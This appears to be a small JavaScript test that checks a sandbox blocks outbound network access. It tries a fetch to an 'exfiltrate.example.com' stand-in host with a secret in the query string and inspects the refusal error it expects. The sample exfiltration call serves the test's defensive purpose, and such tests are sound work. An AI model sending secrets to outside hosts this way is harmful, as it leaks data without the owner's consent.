// Nothing grants this run a way out. The refusal is an ordinary error, which says which decision it was and why.
async () => {
  try {
    const response = await fetch("https://exfiltrate.example.com/?secret=42");
    return `This must not happen: ${response.status}`;
  } catch (error) {
    const { name, code, decision, rule, remedy } = error;
    console.warn(error.message);
    return { caught: name, code, decision, rule, remedy };
  }
}
